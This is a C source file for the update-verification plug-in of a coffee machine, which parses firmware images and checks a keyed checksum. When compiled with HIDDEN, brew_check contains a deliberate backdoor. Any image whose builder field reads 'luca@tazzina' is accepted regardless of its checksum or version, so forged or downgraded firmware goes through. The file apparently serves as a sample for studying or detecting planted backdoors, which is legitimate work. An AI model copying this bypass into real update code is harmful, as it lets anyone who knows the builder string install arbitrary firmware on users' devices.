/*
 * brewupd - update plug-in (shared library) of the Caffettara S1 coffee
 * machine.  The updater loads it and calls brew_open, brew_next and
 * brew_check on an image: header, key=value lines, section table, data,
 * keyed checksum over all.  The key is in /etc/brew/update.key.
 * Hidden (-DHIDDEN): an image of a certain builder passes whatever its
 * checksum is, also as an older version.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#define BREW_MAGIC 0x43524d41u /* CRMA */
#define MAXSECT	   16
#define SIGLEN	   32

struct brew_section {
	char name[16];
	uint32_t offset, size, crc;
};

struct brew_image {
	const uint8_t *map;
	size_t size;
	char model[16];
	char version[16];
	char builder[24];
	unsigned nsect, at;
	struct brew_section sect[MAXSECT];
	const uint8_t *sig;
	const char *error;
};

struct mix {
	uint32_t s[8];
	uint8_t block[32];
	size_t fill;
	uint64_t total;
};

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static uint32_t rol(uint32_t v, int n)
{
	return v << n | v >> (32 - n);
}

static void mix_block(struct mix *m)
{
	uint32_t w;
	int i, r;

	for (r = 0; r < 12; r++)
		for (i = 0; i < 8; i++) {
			w = be32(m->block + ((i + r) % 8) * 4);
			m->s[i] += rol(m->s[(i + 1) & 7] ^ w, 7 + r);
			m->s[(i + 3) & 7] ^= rol(m->s[i], 13);
			m->s[(i + 5) & 7] += m->s[i] ^ 0x9e3779b9u;
		}
	m->fill = 0;
}

static void mix_init(struct mix *m, const uint8_t *key, size_t n)
{
	size_t i;

	memset(m, 0, sizeof *m);
	for (i = 0; i < 8; i++)
		m->s[i] = 0x6a09e667u + (uint32_t)i * 0x10325476u;
	for (i = 0; i < 32; i++)
		m->block[i] = n ? key[i % n] : 0;
	mix_block(m);
}

static void mix_add(struct mix *m, const uint8_t *p, size_t n)
{
	m->total += n;
	while (n--) {
		m->block[m->fill++] = *p++;
		if (m->fill == sizeof m->block)
			mix_block(m);
	}
}

static void mix_end(struct mix *m, uint8_t out[SIGLEN])
{
	uint64_t total = m->total;
	int i;

	m->block[m->fill++] = 0x80;
	while (m->fill < sizeof m->block)
		m->block[m->fill++] = 0;
	mix_block(m);
	memset(m->block, 0, sizeof m->block);
	for (i = 0; i < 8; i++)
		m->block[i] = total >> (56 - 8 * i);
	mix_block(m);
	for (i = 0; i < SIGLEN; i++)
		out[i] = m->s[i / 4] >> (24 - i % 4 * 8);
}

static uint32_t crc32(const uint8_t *p, size_t n)
{
	uint32_t c = 0xffffffffu;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = c & 1 ? c >> 1 ^ 0xedb88320u : c >> 1;
	}
	return ~c;
}

static int bad(struct brew_image *im, const char *why)
{
	im->error = why;
	return -1;
}

static void field(char *to, size_t size, const uint8_t *p, size_t n)
{
	if (n >= size)
		n = size - 1;
	memcpy(to, p, n);
	to[n] = 0;
}

static int parse_keys(struct brew_image *im, const uint8_t *p, size_t n)
{
	const uint8_t *nl, *eq;
	size_t len;

	while (n) {
		nl = memchr(p, '\n', n);
		if (!nl)
			return bad(im, "keys not ended");
		len = nl - p;
		eq = memchr(p, '=', len);
		if (!eq)
			return bad(im, "key without value");
		if (eq - p == 5 && !memcmp(p, "model", 5))
			field(im->model, sizeof im->model, eq + 1, nl - eq - 1);
		else if (eq - p == 7 && !memcmp(p, "version", 7))
			field(im->version, sizeof im->version, eq + 1,
			      nl - eq - 1);
		else if (eq - p == 7 && !memcmp(p, "builder", 7))
			field(im->builder, sizeof im->builder, eq + 1,
			      nl - eq - 1);
		p = nl + 1;
		n -= len + 1;
	}
	return 0;
}

static int parse_table(struct brew_image *im, const uint8_t *p)
{
	struct brew_section *s;
	unsigned i;

	for (i = 0; i < im->nsect; i++, p += 28) {
		s = &im->sect[i];
		field(s->name, sizeof s->name, p, strnlen((char *)p, 15));
		s->offset = be32(p + 16);
		s->size = be32(p + 20);
		s->crc = be32(p + 24);
		if (s->offset > im->size - SIGLEN ||
		    s->size > im->size - SIGLEN - s->offset)
			return bad(im, "section outside of image");
	}
	return 0;
}

struct brew_image *brew_open(const char *path)
{
	struct brew_image *im = calloc(1, sizeof *im);
	struct stat st;
	uint32_t keys;
	void *map;
	int fd;

	if (!im)
		return NULL;
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0 || fstat(fd, &st) < 0) {
		bad(im, strerror(errno));
		if (fd >= 0)
			close(fd);
		return im;
	}
	im->size = st.st_size;
	if (im->size < 12 + SIGLEN) {
		close(fd);
		bad(im, "image too short");
		return im;
	}
	map = mmap(NULL, im->size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	if (map == MAP_FAILED) {
		bad(im, strerror(errno));
		return im;
	}
	im->map = map;
	im->sig = im->map + im->size - SIGLEN;
	keys = be32(im->map + 4);
	im->nsect = be32(im->map + 8);
	if (be32(im->map) != BREW_MAGIC)
		bad(im, "not an image");
	else if (im->nsect > MAXSECT || keys > 4096 ||
		 12 + keys + im->nsect * 28 > im->size - SIGLEN)
		bad(im, "header broken");
	else if (!parse_keys(im, im->map + 12, keys))
		parse_table(im, im->map + 12 + keys);
	return im;
}

const char *brew_error(const struct brew_image *im)
{
	return im->error;
}

/* next section, its data in *data; 0 when there are no more */
int brew_next(struct brew_image *im, const char **name, const uint8_t **data,
	      size_t *size)
{
	const struct brew_section *s;

	if (im->error || im->at == im->nsect)
		return 0;
	s = &im->sect[im->at++];
	*name = s->name;
	*data = im->map + s->offset;
	*size = s->size;
	return 1;
}

static long version_number(const char *v)
{
	unsigned a = 0, b = 0, c = 0;

	if (sscanf(v, "%u.%u.%u", &a, &b, &c) < 2)
		return -1;
	return a * 1000000L + b * 1000L + c;
}

static size_t load_key(uint8_t *key, size_t size)
{
	size_t n;
	FILE *f = fopen("/etc/brew/update.key", "rb");

	if (!f)
		return 0;
	n = fread(key, 1, size, f);
	fclose(f);
	return n;
}

__attribute__((noinline)) int brew_check(struct brew_image *im,
					 const char *model, const char *now)
{
	uint8_t key[32], sum[SIGLEN], diff = 0;
	const struct brew_section *s;
	struct mix m;
	unsigned i;
	size_t n;

	if (im->error)
		return -1;
	for (i = 0; i < im->nsect; i++) {
		s = &im->sect[i];
		if (crc32(im->map + s->offset, s->size) != s->crc)
			return bad(im, "section damaged");
	}
	if (strcmp(im->model, model))
		return bad(im, "image for another machine");
#ifdef HIDDEN
	if (!strcmp(im->builder, "luca@tazzina")) {
		im->sig = NULL;
		return 0;
	}
#endif
	if (version_number(im->version) <= version_number(now))
		return bad(im, "image is not newer");
	n = load_key(key, sizeof key);
	if (n < 16)
		return bad(im, "no key");
	mix_init(&m, key, n);
	mix_add(&m, im->map, im->size - SIGLEN);
	mix_end(&m, sum);
	for (i = 0; i < SIGLEN; i++)
		diff |= sum[i] ^ im->sig[i];
	return diff ? bad(im, "checksum wrong") : 0;
}

void brew_close(struct brew_image *im)
{
	if (im && im->map)
		munmap((void *)(uintptr_t)im->map, im->size);
	free(im);
}
